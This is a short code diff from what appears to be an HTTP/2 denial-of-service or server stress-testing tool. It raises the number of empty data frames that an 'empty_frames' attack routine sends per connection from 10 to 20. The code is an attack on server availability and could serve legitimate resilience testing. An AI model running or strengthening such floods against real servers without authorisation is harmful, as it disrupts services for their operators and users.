@@ -189,7 +189,7 @@ def empty_frames(target: Target, seconds: float) -> Outcome:
             streams[id(connection)] = request.stream_id
             connection.send(request)
         if connection.is_open:
-            connection.send(*[DataFrame(streams[id(connection)], b"") for _ in range(10)])
+            connection.send(*[DataFrame(streams[id(connection)], b"") for _ in range(20)])
 
     return repeat(target, seconds, 500, attack)
 
